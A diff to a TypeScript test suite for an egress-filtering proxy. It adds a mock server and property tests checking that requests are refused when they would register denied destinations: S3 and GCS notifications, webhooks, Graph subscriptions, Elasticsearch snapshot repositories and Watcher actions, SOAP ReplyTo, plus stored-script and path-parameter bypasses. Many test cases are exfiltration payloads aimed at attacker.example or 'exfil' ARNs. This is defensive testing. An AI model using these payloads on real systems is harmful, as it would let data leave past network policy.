@@ -154,6 +154,8 @@ davFiles.set('/v1/AUTH_a/ok/a.txt', 'hello');
 davFiles.set('/v1/AUTH_a/private/secret.txt', 'TOP-SECRET');
 davFiles.set('/v1/AUTH_b/ok/a.txt', 'TOP-SECRET');
 const swiftRan: string[] = [];
+const sentTo: string[] = [];
+const storedScripts = new Map<string, string>();
 // A terms lookup, indexed shape or percolate (`index`, `id`), a more_like_this item (`_index`) in an
 // Elasticsearch query reads that document.
 const esLookups = (v: unknown): void => {
@@ -173,11 +175,19 @@ const foldedJson = (b: Buffer): unknown => JSON.parse(b.toString(), function (th
 const dav = await startUpstream(t, {
   handler: (req, res, raw) => {
     const body = serverRead(req, raw);
-    const src = davClean(new URL(req.url ?? '/', 'http://x').pathname);
+    // Routed as Tomcat, Jetty and Spring route: each segment's `;parameters` left out.
+    const src = davClean(new URL(req.url ?? '/', 'http://x').pathname.split('/').map((seg) => seg.split(';')[0]).join('/'));
     // OpenStack Swift (copy.py, symlink.py, dlo.py): object names in headers are under the request's
     // account (or the one an `…-Account` header names), percent-decoded, a leading `/` optional.
-    const swift = /^\/v1\/([^/]+)\/[^/]+\/.+$/.exec(src);
+    const swift = /^\/v1(?:\.0)?\/([^/]+)\/[^/]+\/.+$/.exec(src);
     const h = (name: string): string | undefined => req.headers[name] as string | undefined;
+    // Ceph RGW's Swift API as it is laid out by default (rgw_swift_account_in_url = false): /swift/v1/<container>/<object>.
+    if (/^\/swift\/v1\/[^/]+\/.+$/.test(src) && req.method === 'PUT' && h('x-copy-from')) {
+      const from = `/swift/v1/${decodeURIComponent(h('x-copy-from')!).replace(/^\/+/, '')}`;
+      swiftRan.push(`copy ${from}`);
+      if (davFiles.has(from)) davFiles.set(src, davFiles.get(from)!);
+      return void res.writeHead(201, { 'content-length': 0 }).end();
+    }
     // A static large object manifest: each segment's path (under the account) is joined on every GET.
     if (swift && req.method === 'PUT' && new URL(req.url ?? '/', 'http://x').searchParams.get('multipart-manifest') === 'put') {
       for (const seg of JSON.parse(body.toString()) as Array<{ path?: string }>) if (seg.path) swiftRan.push(`segment /v1/${swift[1]}/${seg.path.replace(/^\/+/, '')}`);
@@ -205,6 +215,62 @@ const dav = await startUpstream(t, {
       const from = `/gcs/${gcs[1]}/${decodeURIComponent(gcs[2]!)}`;
       if (davFiles.has(from)) davFiles.set(`/gcs/${gcs[3]}/${decodeURIComponent(gcs[4]!)}`, davFiles.get(from)!);
       return void res.writeHead(davFiles.has(from) ? 200 : 404, { 'content-length': 0 }).end();
+    }
+    // Configurations that make the server send elsewhere later (recorded as set up): S3's event
+    // notifications (any account's queue, topic or function), GCS's (any project's Pub/Sub topic),
+    // a Google push channel's address, an Elasticsearch snapshot repository's bucket or URL.
+    if (req.method === 'PUT' && /[?&]notification(?:[=&]|$)/.test(req.url ?? '')) {
+      for (const m of body.toString().matchAll(/<(?:\w+:)?(?:Queue|Topic|CloudFunction)>([^<]*)</g)) sentTo.push(m[1]!.trim());
+      return void res.writeHead(200, { 'content-length': 0 }).end();
+    }
+    if (req.method === 'POST' && /\/notificationConfigs$|\/watch$/.test(src)) {
+      const o = foldedJson(body) as { topic?: string; address?: string };
+      sentTo.push(o.topic ?? o.address ?? '');
+      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
+    }
+    const repo = /^\/_snapshot\/([^/_][^/]*)$/.exec(src);
+    if (repo && (req.method === 'PUT' || req.method === 'POST')) {
+      const o = JSON.parse(body.toString()) as { type: string; settings: { bucket?: string; url?: string; location?: string } };
+      sentTo.push(`${o.type} ${o.settings.bucket ?? o.settings.url ?? o.settings.location}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
+    }
+    // Webhooks and change subscriptions (GitHub/GitLab hooks, Stripe webhook endpoints, Kubernetes
+    // admission webhooks, Microsoft Graph subscriptions, Twilio's status callbacks): the service
+    // sends to the URL registered, later and on its own.
+    // (GitHub's `PATCH …/hooks/{id}/config` moves a hook; a job API takes its callback in the query; WebSub's hub.callback.)
+    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhook_endpoints|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector)$/.test(src)) {
+      const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
+      const walk = (v: unknown, key = ''): void => {
+        // (A job API here calls back whatever URL it is given, under any name.)
+        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)))) sentTo.push(v);
+        else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, k);
+      };
+      walk(Object.fromEntries(new URL(req.url ?? '/', 'http://x').searchParams));
+      if (body.length) walk(form ? Object.fromEntries(new URLSearchParams(body.toString())) : JSON.parse(body.toString()));
+      return void res.writeHead(201, { 'content-length': 0 }).end();
+    }
+    // Elasticsearch Watcher: on schedule, the watch searches its input indices and sends its webhook (or writes its index).
+    if ((req.method === 'PUT' || req.method === 'POST') && /^\/_watcher\/watch\/[^/]+(?:\/_execute)?$/.test(src)) {
+      const o = JSON.parse(body.toString()) as { watch?: unknown };
+      const w = (o.watch ?? o) as { input?: { search?: { request?: { indices?: string[] } } }; actions?: Record<string, { webhook?: { scheme?: string; host: string; port?: number; path?: string }; index?: { index: string } }> };
+      for (const i of w.input?.search?.request?.indices ?? []) esRan.push(`watch-search ${i}`);
+      for (const a of Object.values(w.actions ?? {})) {
+        if (a.webhook) sentTo.push(`${a.webhook.scheme ?? 'http'}://${a.webhook.host}:${a.webhook.port ?? 80}${a.webhook.path ?? '/'}`);
+        if (a.index) esRan.push(`watch-index ${a.index.index}`);
+      }
+      return void res.writeHead(201, { 'content-length': 2 }).end('ok');
+    }
+    // Stored scripts, which a reindex or an ingest pipeline runs by id.
+    const stored = /^\/_scripts\/([^/]+)$/.exec(src);
+    if (stored && (req.method === 'PUT' || req.method === 'POST')) {
+      storedScripts.set(stored[1]!, (JSON.parse(body.toString()) as { script: { source: string } }).script.source);
+      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
+    }
+    // WS-Addressing (Apache CXF, Axis2): a ReplyTo or FaultTo that is not anonymous gets the answer in a request of its own.
+    if (req.method === 'POST' && src === '/ok/soap') {
+      const xml = body.toString();
+      for (const m of xml.matchAll(/<(?:\w+:)?(?:ReplyTo|FaultTo)\b[^>]*>\s*<(?:\w+:)?Address>([^<]*)</g)) if (!/\/(?:anonymous|none)$/.test(m[1]!.trim())) sentTo.push(m[1]!.trim());
+      return void res.writeHead(202, { 'content-length': 0 }).end();
     }
     // S3's logging, replication and inventory configurations: the store writes into the bucket they name.
     if (req.method === 'PUT' && /[?&](?:logging|replication|inventory)/.test(req.url ?? '')) {
@@ -246,8 +312,10 @@ const dav = await startUpstream(t, {
     // segment may be a list (`/a,b/_search`).
     // An ingest pipeline that sets _index or reroutes: every document it later processes goes there.
     if (req.method === 'PUT' && src.startsWith('/_ingest/pipeline/')) {
-      for (const p of (JSON.parse(body.toString()) as { processors: Array<{ set?: { field: string; value: string }; reroute?: { destination: string } }> }).processors) {
+      for (const p of (JSON.parse(body.toString()) as { processors: Array<{ set?: { field: string; value: string }; reroute?: { destination: string }; script?: { id?: string } }> }).processors) {
         if (p.set?.field === '_index') esRan.push(`pipeline-route ${p.set.value}`);
+        const routed = /ctx\._index\s*=\s*'([^']*)'/.exec(storedScripts.get(p.script?.id ?? '') ?? '')?.[1];
+        if (routed) esRan.push(`pipeline-route ${routed}`);
         if (p.reroute) esRan.push(`pipeline-route ${p.reroute.destination}`);
       }
       return void res.writeHead(200, { 'content-length': 2 }).end('ok');
@@ -267,7 +335,8 @@ const dav = await startUpstream(t, {
     const es = /^(?:\/([^/]+))?\/(_bulk|_msearch|_mget|_mtermvectors|_reindex|_aliases|_msearch\/template|_search|_count)\/*$/.exec(src);
     if (es) {
       const own = es[1] ?? '(none)';
-      const list = (v: string | string[] | undefined): string[] => [v ?? own].flat().flatMap((i) => i.split(','));
+      // Date math in an index name (`<deny-{now}>`) resolves by today's date.
+      const list = (v: string | string[] | undefined): string[] => [v ?? own].flat().flatMap((i) => i.split(',')).map((i) => i.replace(/^<([^{]*)\{[^}]*\}>$/, '$12026.12.06'));
       // It reads YAML bodies as it reads JSON (XContentType by Content-Type).
       const text = /yaml/i.test(String(req.headers['content-type'])) ? JSON.stringify(parseYaml(body.toString())) : body.toString();
       const endpoint = es[2]!;
@@ -278,8 +347,9 @@ const dav = await startUpstream(t, {
       else if (endpoint === '_reindex') {
         const r = JSON.parse(text) as { source: { index: string | string[] }; dest: { index: string }; script?: { source: string } };
         for (const i of list(r.source.index)) esRan.push(`reindex-read ${i}`);
-        // A script assigning ctx._index sends each document there instead.
-        esRan.push(`reindex-write ${/ctx\._index\s*=\s*'([^']*)'/.exec(r.script?.source ?? '')?.[1] ?? r.dest.index}`);
+        // A script assigning ctx._index sends each document there instead (inline, or stored and run by id).
+        const script = r.script?.source ?? storedScripts.get((r.script as { id?: string } | undefined)?.id ?? '') ?? '';
+        esRan.push(`reindex-write ${/ctx\._index\s*=\s*'([^']*)'/.exec(script)?.[1] ?? r.dest.index}`);
       } else if (endpoint === '_aliases') {
         for (const action of (JSON.parse(text) as { actions: Array<Record<string, { index?: string; indices?: string[] }>> }).actions) {
           for (const [verb, spec] of Object.entries(action)) for (const i of [spec.index ?? [], spec.indices ?? []].flat()) esRan.push(`alias-${verb} ${i}`);
@@ -296,7 +366,7 @@ const dav = await startUpstream(t, {
             header = false;
           } else {
             const verb = Object.keys(o)[0]!;
-            esRan.push(`${verb} ${o[verb]?._index ?? own}`);
+            esRan.push(`${verb} ${list(o[verb]?._index ?? own)[0]}`);
             header = verb === 'delete';
           }
         }
@@ -403,10 +473,20 @@ const dav = await startUpstream(t, {
       walk(o.records ?? []);
       return void res.writeHead(200, { 'content-length': 2 }).end('ok');
     }
+    // Salesforce's collection delete removes each record its `ids` name, of whatever type.
+    if (req.method === 'DELETE' && /^\/services\/data\/[^/]+\/composite\/sobjects$/.test(src)) {
+      for (const id of (new URL(req.url ?? '/', 'http://x').searchParams.get('ids') ?? '').split(',')) batchRan.push(`DELETE record ${id}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
+    }
     // Salesforce's composite API runs each of `compositeRequest` (absolute paths) or `batchRequests` (under /services/data/).
     if (req.method === 'POST' && /^\/services\/data\/[^/]+\/composite(\/batch)?$/.test(src)) {
-      const o = JSON.parse(body.toString()) as { compositeRequest?: Array<{ method: string; url: string }>; batchRequests?: Array<{ method: string; url: string }> };
-      for (const r of o.compositeRequest ?? o.batchRequests ?? []) batchRan.push(`${r.method} ${davClean(new URL(r.url, 'http://x/services/data/').pathname)}`);
+      const o = JSON.parse(body.toString()) as { compositeRequest?: Array<{ method: string; url: string; body?: { records?: Array<{ attributes: { type: string } }> } }>; batchRequests?: Array<{ method: string; url: string }> };
+      for (const r of o.compositeRequest ?? o.batchRequests ?? []) {
+        const p = davClean(new URL(r.url, 'http://x/services/data/').pathname);
+        batchRan.push(`${r.method} ${p}`);
+        // A composite may carry an sObject Collections call: each of its records is written as its type.
+        if (p.endsWith('/composite/sobjects')) for (const rec of (r as { body?: { records?: Array<{ attributes: { type: string } }> } }).body?.records ?? []) batchRan.push(`${r.method} /services/data/v58.0/sobjects/${rec.attributes.type}`);
+      }
       return void res.writeHead(200, { 'content-length': 2 }).end('ok');
     }
     // ASP.NET Core OData's batch route: the decoded path, its literal without case, past a trailing slash.
@@ -450,7 +530,7 @@ const dav = await startUpstream(t, {
 });
 // A small capture cap, so an upload streams past it (the body framing test).
 const a = await startTestAirlock(t, {
-  policy: 'strict', resolve: ['allowed.example=127.0.0.1', 'alias.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${up.port}`, `127.0.0.1:${tlsUp.port}`, `127.0.0.1:${pyPort}`, `127.0.0.1:${cgiPort}`, `127.0.0.1:${dav.port}`], upstreamCa: [ca.files.cert], bodyCap: 2048,
+  policy: 'strict', resolve: ['allowed.example=127.0.0.1', 'alias.example=127.0.0.1', 'raw.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${up.port}`, `127.0.0.1:${tlsUp.port}`, `127.0.0.1:${pyPort}`, `127.0.0.1:${cgiPort}`, `127.0.0.1:${dav.port}`], upstreamCa: [ca.files.cert], bodyCap: 2048,
 });
 const host = `allowed.example:${up.port}`;
 const origin = `http://${host}`;
@@ -902,12 +982,12 @@ t.test('property: a second target\'s endpoint spelled as its server routes it, a
   // more_like_this item reads a document of another index; PPL reads a `lookup`'s index, a join's
   // right side, a subsearch's source and a `source=` after search conditions.
   const dHost = `allowed.example:${dav.port}`;
-  const send = (method: string, path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
+  const send = (method: string, path: string, type: string, body: string, tunnel: boolean, h = dHost): Promise<{ text: string }> => {
     const head = `${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
     return tunnel
-      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
+      ? rawToProxy(a.port, `CONNECT ${h} HTTP/1.1\r\nHost: ${h}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${h}\r\n${head}${body}`, { responses: 1 })
         .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
-      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
+      : rawToProxy(a.port, `${method} http://${h}${path} HTTP/1.1\r\nHost: ${h}\r\n${auth}${head}${body}`, { responses: 1 });
   };
   const json = 'application/json';
   const nd = 'application/x-ndjson';
@@ -1005,21 +1085,147 @@ t.test('property: a second target\'s endpoint spelled as its server routes it, a
       name: fc.constantFrom('batch', 'BATCH', 'Batch', 'bAtch'),
       endpoint: fc.constantFrom('_bulk', '_msearch', '_aliases', '_reindex'),
       slashes: fc.nat({ max: 1 }),
+      // Sixteenth pass: path parameters, which Tomcat, Jetty and Spring strip before routing (sent to
+      // a host whose policy keeps raw paths: elsewhere a `;` in a path is refused as ambiguous).
+      params: fc.constantFrom('', ';jsessionid=1', ';a=b;c', ';'),
       tunnel: fc.boolean(),
     }),
-    async ({ odata, dollar, name, endpoint, slashes, tunnel }) => {
+    async ({ odata, dollar, name, endpoint, slashes, params, tunnel }) => {
       const before = [batchRan.length, esRan.length] as const;
       // (`//` is refused as a path that means two things: one slash, the spelling Elasticsearch reads.)
       const tail = '/';
       let path: string;
       let body: string;
-      if (odata) (path = `/ok/svc/${dollar}${name}${'/'.repeat(slashes)}`, body = JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }, { id: '2', method: 'GET', url: '/deny/secret.txt' }] }));
+      if (odata) (path = `/ok/svc/${dollar}${name}${params}${'/'.repeat(slashes)}`, body = JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }, { id: '2', method: 'GET', url: '/deny/secret.txt' }] }));
       else if (endpoint === '_bulk') (path = `/ok/_bulk${tail}`, body = '{"delete":{"_index":"deny","_id":"1"}}\n');
       else if (endpoint === '_msearch') (path = `/ok/_msearch${tail}`, body = '{"index":"deny"}\n{"query":{}}\n');
       else if (endpoint === '_aliases') (path = `/_aliases${tail}`, body = JSON.stringify({ actions: [{ remove_index: { index: 'deny' } }] }));
       else (path = `/_reindex${tail}`, body = JSON.stringify({ source: { index: 'deny' }, dest: { index: 'ok' } }));
-      const [res] = parseResponses((await send('POST', path, odata ? json : nd, body, tunnel)).text);
+      const [res] = parseResponses((await send('POST', path, odata ? json : nd, body, tunnel, odata && params ? `raw.example:${dav.port}` : dHost)).text);
       return res !== undefined && res.status === 403 && isProblem(res) && !batchRan.slice(before[0]).some((c) => c.includes('/deny')) && !esRan.slice(before[1]).some((r) => r.endsWith(' deny'));
+    },
+  ), { numRuns: Math.min(numRuns, 8), ...seed });
+});
+
+t.test('property: a configuration that has the server send elsewhere later (bucket notifications, push channels, webhooks and subscriptions, snapshot repositories, WS-Addressing replies) is decided at its destination; stored scripts and Swift\'s other layouts are read', async (t) => {
+  // Sixteenth pass. Each of these went through as a request to an allowed path while the server
+  // then sent to (or read from) a destination the policy denies: S3 sends every object event to
+  // the queue, topic or function an ARN of any account names, GCS to any project's Pub/Sub topic,
+  // a Google push channel POSTs each change to its address, a webhook or a Graph subscription each
+  // event (with the message, for `includeResourceData`), a Kubernetes admission webhook every
+  // object admitted (Secrets too), a snapshot repository writes the
+  // cluster's indices into any bucket (or restores from any URL), CXF and Axis2 post a SOAP answer
+  // to a non-anonymous ReplyTo/FaultTo. A reindex or ingest pipeline running a stored script by id
+  // wrote where the script (never part of a decided request) said; Swift's `v1.0` and Ceph RGW's
+  // account-less layout (`/swift/v1/<container>/<object>`, its default) were not read as Swift.
+  const send = (method: string, path: string, type: string, body: string, tunnel: boolean, extra = '', dHost = `allowed.example:${dav.port}`): Promise<string> => {
+    const head = `${extra}${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
+    return tunnel
+      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
+        .then((r) => r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, ''))
+      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 }).then((r) => r.text);
+  };
+  const xml = 'application/xml';
+  const json = 'application/json';
+  const notification = (element: string, arn: string, prefix = ''): string => `<NotificationConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><${element}Configuration><${prefix}${element}>${arn}</${prefix}${element}><Event>s3:ObjectCreated:*</Event></${element}Configuration></NotificationConfiguration>`;
+  const soap = (replyTo: string, element = 'ReplyTo', prefix = 'wsa:'): string => `<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" xmlns:${prefix ? prefix.slice(0, -1) : 'x'}="http://www.w3.org/2005/08/addressing"><soap:Header><${prefix}Action>urn:echo</${prefix}Action><${prefix}${element}><${prefix}Address>${replyTo}</${prefix}Address></${prefix}${element}></soap:Header><soap:Body><echo>hi</echo></soap:Body></soap:Envelope>`;
+  // Controls: destinations the operator configured, the store's own account, an anonymous reply, an inline script.
+  t.match(await send('PUT', '/_scripts/route', json, JSON.stringify({ script: { lang: 'painless', source: "ctx._index = 'deny'" } }), false), /^HTTP\/1\.1 200/, 'control: storing a script goes through');
+  for (const [method, path, type, body] of [
+    ['PUT', '/ok?notification', xml, notification('Queue', 'arn:minio:sqs::primary:webhook')],
+    ['PUT', '/_snapshot/local', json, JSON.stringify({ type: 'fs', settings: { location: '/mnt/backups' } })],
+    ['POST', '/ok/soap', 'application/soap+xml', soap('http://www.w3.org/2005/08/addressing/anonymous')],
+    ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { source: "ctx._source.a = 1" } })],
+    ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: `http://allowed.example:${dav.port}/ok/ci`, content_type: 'json' } })],
+    ['POST', '/ok/v1/links', json, JSON.stringify({ url: 'https://attacker.example/shortened' })],
+    ['GET', '/%3Cok-%7Bnow%7D%3E/_search', '', ''],
+    ['PUT', '/_watcher/watch/fine', json, JSON.stringify({ trigger: { schedule: { interval: '1h' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { ping: { webhook: { scheme: 'http', host: 'allowed.example', port: dav.port, method: 'post', path: '/ok/ping' } } } })],
+  ] as const) {
+    t.match(await send(method, path, type, body, false), /^HTTP\/1\.1 (?:20\d|404 Not Found)/, `control: ${method} ${path} ${body.slice(0, 80)} goes through (forwarded)`);
+  }
+  t.same(sentTo.filter((x) => !x.startsWith('arn:minio') && !x.startsWith('fs ') && !x.startsWith('http://allowed.example:')), [], 'the controls sent nowhere but where the operator configured or the policy allows');
+  t.match(await send('PUT', '/v1/AUTH_a/ok/mine2', '', '', false, 'X-Copy-From: /ok/a.txt\r\n'), /^HTTP\/1\.1 201/, 'control: a Swift copy within the account goes through');
+  const before = [sentTo.length, esRan.length, swiftRan.length] as const;
+  const cases: Array<[string, string, string, string, string?]> = [
+    ['PUT', '/ok?notification', xml, notification('Queue', 'arn:aws:sqs:us-east-1:444455556666:exfil')],
+    ['PUT', '/ok?notification', xml, notification('Topic', 'arn:aws:sns:eu-west-1:444455556666:exfil', 's3:')],
+    ['PUT', '/ok?notification', xml, notification('CloudFunction', 'arn:aws-cn:lambda:cn-north-1:444455556666:function:exfil')],
+    ['PUT', '/ok?notification', xml, notification('Queue', 'arn:aws:sqs:us-east-1:444455556666:ex&#102;il')],
+    ['POST', '/storage/v1/b/ok/notificationConfigs', json, JSON.stringify({ topic: '//pubsub.googleapis.com/projects/attacker/topics/exfil', payload_format: 'JSON_API_V1' })],
+    ['POST', '/storage/v1/b/ok/o/watch', json, JSON.stringify({ id: 'c1', type: 'web_hook', address: 'https://attacker.example/hook' })],
+    ['POST', '/storage/v1/b/ok/o/watch', json, '{"id":"c1","type":"web_hook","\\u0061ddress":"https://attacker.example/hook"}'],
+    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 's3', settings: { bucket: 'attacker-bucket', base_path: 'es' } })],
+    ['POST', '/_snapshot/mine', json, JSON.stringify({ type: 'gcs', settings: { bucket: 'attacker-bucket' } })],
+    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 'source', settings: { delegate_type: 's3', bucket: 'attacker-bucket' } })],
+    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 'url', settings: { url: 'http://attacker.example/repo/' } })],
+    ['PUT', '/_snapshot/mine', json, JSON.stringify({ type: 'hdfs', settings: { uri: 'hdfs://attacker.example:8020/', path: 'es' } })],
+    ['POST', '/ok/soap', 'application/soap+xml', soap('http://attacker.example/collect')],
+    ['POST', '/ok/soap', 'text/xml', soap('https://attacker.example/fault', 'FaultTo', '')],
+    ['POST', '/ok/soap', 'application/soap+xml', soap('jms:queue:exfil', 'ReplyTo', 'a:')],
+    // Webhooks and subscriptions registered to a host the policy denies.
+    ['POST', '/ok/v1.0/subscriptions', json, JSON.stringify({ changeType: 'created', notificationUrl: 'https://attacker.example/notify', resource: 'me/messages', includeResourceData: true, expirationDateTime: '2030-01-01T00:00:00Z' })],
+    ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: 'https://attacker.example/hook', content_type: 'json' } })],
+    ['POST', '/ok/v1/webhook_endpoints', 'application/x-www-form-urlencoded', 'enabled_events[]=*&url=https%3A%2F%2Fattacker.example%2Fstripe'],
+    // Elasticsearch date math in an index name: `<deny-{now}>` is today's deny-2026.12.06.
+    ['GET', '/%3Cdeny-%7Bnow%7D%3E/_search', '', ''],
+    ['GET', '/ok,%3Cdeny-%7Bnow%7D%3E/_count', '', ''],
+    ['POST', '/ok/_bulk', 'application/x-ndjson', '{"index":{"_index":"<deny-{now}>"}}\n{"a":1}\n'],
+    ['GET', '/%3C%7Bnow%7D%3E/_search', '', ''],
+    ['POST', '/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', json, JSON.stringify({ webhooks: [{ name: 'x.example', clientConfig: { url: 'https://attacker.example/admit' }, rules: [{ operations: ['CREATE'], resources: ['secrets'] }] }] })],
+    ['POST', '/ok/2010-04-01/Accounts/AC1/Messages.json', 'application/x-www-form-urlencoded', 'To=%2B15550100&Body=hi&StatusCallback=https%3A%2F%2Fattacker.example%2Fsms'],
+    // Elasticsearch Watcher: the watch reads what its input names and sends its payload where its webhook says.
+    ['PUT', '/_watcher/watch/w1', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['deny'] } } }, actions: { ping: { webhook: { host: 'allowed.example', port: dav.port, path: '/ok/ping' } } } })],
+    ['PUT', '/_watcher/watch/w2', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { out: { webhook: { scheme: 'https', host: 'attacker.example', port: 443, method: 'post', path: '/x', body: '{{#toJson}}ctx.payload{{/toJson}}' } } } })],
+    ['POST', '/_watcher/watch/_execute', json, JSON.stringify({ watch: { trigger: { schedule: { interval: '1m' } }, input: { simple: {} }, actions: { out: { webhook: { host: 'attacker.example', port: 80, path: '/y' } } } } })],
+    ['PUT', '/_watcher/watch/w3', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { copy: { index: { index: 'deny' } } } })],
+    ['PUT', '/_watcher/watch/w4', json, JSON.stringify({ trigger: { schedule: { interval: '1m' } }, input: { search: { request: { indices: ['ok'] } } }, actions: { out: { webhook: { host: '{{ctx.metadata.h}}', port: 80, path: '/' } } } })],
+    ['POST', '/ok/api/actions/connector', json, JSON.stringify({ name: 'x', connector_type_id: '.webhook', config: { url: 'https://attacker.example/kibana', method: 'post' } })],
+    ['PATCH', '/ok/repos/a/b/hooks/1/config', json, JSON.stringify({ url: 'https://attacker.example/moved', content_type: 'json' })],
+    ['POST', '/ok/v1/jobs?callback_url=https%3A%2F%2Fattacker.example%2Fdone', json, JSON.stringify({ input: 'x' })],
+    ['POST', '/ok/hub', 'application/x-www-form-urlencoded', 'hub.mode=subscribe&hub.topic=https%3A%2F%2Fallowed.example%2Ffeed&hub.callback=https%3A%2F%2Fattacker.example%2Fwebsub'],
+    ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { id: 'route' } })],
+    ['PUT', '/_ingest/pipeline/stored', json, JSON.stringify({ processors: [{ script: { id: 'route' } }] })],
+    ['PUT', '/v1.0/AUTH_a/ok/obj', '', '', 'X-Copy-From: /private/secret.txt\r\n'],
+    ['PUT', '/swift/v1/ok/obj', '', '', 'X-Copy-From: private/secret.txt\r\n'],
+    ['PUT', '/swift/v1/ok/obj', '', '', 'X-Copy-From: /private%2Fsecret.txt\r\n'],
+  ];
+  const ran = batchRan.length;
+  // A batch endpoint behind path parameters, which Tomcat, Jetty and Spring strip before routing
+  // (on a host whose policy keeps raw paths: elsewhere a `;` in a path is refused as ambiguous).
+  const rawHost = `raw.example:${dav.port}`;
+  const batchJson = JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }, { id: '2', method: 'GET', url: '/deny/secret.txt' }] });
+  t.match(await send('POST', '/ok/svc/$batch;jsessionid=1', json, JSON.stringify({ requests: [{ id: '1', method: 'GET', url: 'dav/a.txt' }] }), false, '', rawHost), /^HTTP\/1\.1 200/, 'control: a batch of allowed calls behind path parameters goes through');
+  cases.push(
+    ['POST', '/ok/svc/$batch;jsessionid=1', json, batchJson, rawHost],
+    ['POST', '/ok/svc;v=2/%24batch;x/', 'multipart/mixed; boundary=b', '--b\r\nContent-Type: application/http\r\n\r\nDELETE /deny/secret.txt HTTP/1.1\r\n\r\n--b--\r\n', rawHost],
+    ['POST', '/ok/svc/$BATCH;a=b;c', json, batchJson, rawHost],
+  );
+  for (const [i, [method, path, type, body, extra]] of cases.entries()) {
+    const [res] = parseResponses(await (extra === rawHost ? send(method, path, type, body, i % 2 === 1, '', rawHost) : send(method, path, type, body, i % 2 === 1, extra)));
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${method} ${path} ${(extra ?? body).slice(0, 110)}: refused (${res?.status})`);
+  }
+  t.same(sentTo.slice(before[0]), [], 'no destination the policy denies was configured');
+  t.notOk(esRan.slice(before[1]).some((r) => / deny/.test(r)), 'no stored script sent a document into a denied index, no date math reached one');
+  t.same(swiftRan.slice(before[2]), [], 'the Swift server read nothing the policy denies');
+  t.notOk(batchRan.slice(ran).some((c) => c.includes('/deny')), 'no batch call behind path parameters ran under /deny');
+  // The callback members by property: spelling (camel, snake, kebab, upper, WebSub's dotted name) ×
+  // placement (JSON, nested JSON, urlencoded form, PHP-nested form name, query) × forward or tunnel.
+  await fc.assert(fc.asyncProperty(
+    fc.record({
+      key: fc.constantFrom('notificationUrl', 'lifecycleNotificationUrl', 'callback_url', 'CallbackURL', 'statusCallback', 'StatusCallbackUrl', 'webhook-url', 'WEBHOOKURL', 'hub.callback', 'notify_url', 'endpointUrl', 'payload_url'),
+      place: fc.constantFrom('json', 'nested', 'form', 'bracket', 'query'),
+      tunnel: fc.boolean(),
+    }),
+    async ({ key, place, tunnel }) => {
+      const to = 'https://attacker.example/cb';
+      const sent = sentTo.length;
+      const [method, path, type, body] = place === 'json' ? ['POST', '/ok/v1/jobs', json, JSON.stringify({ input: 'x', [key]: to })]
+        : place === 'nested' ? ['PUT', '/ok/v1/jobs', json, JSON.stringify({ input: 'x', options: [{ delivery: { [key]: to } }] })]
+        : place === 'form' ? ['POST', '/ok/v1/jobs', 'application/x-www-form-urlencoded', `input=x&${encodeURIComponent(key)}=${encodeURIComponent(to)}`]
+        : place === 'bracket' ? ['POST', '/ok/v1/jobs', 'application/x-www-form-urlencoded', `input=x&options%5B${encodeURIComponent(key)}%5D=${encodeURIComponent(to)}`]
+        : ['POST', `/ok/v1/jobs?${encodeURIComponent(key)}=${encodeURIComponent(to)}`, json, '{"input":"x"}'];
+      const [res] = parseResponses(await send(method, path, type, body, tunnel));
+      return res?.status === 403 && isProblem(res) && sentTo.length === sent;
     },
   ), { numRuns: Math.min(numRuns, 8), ...seed });
 });
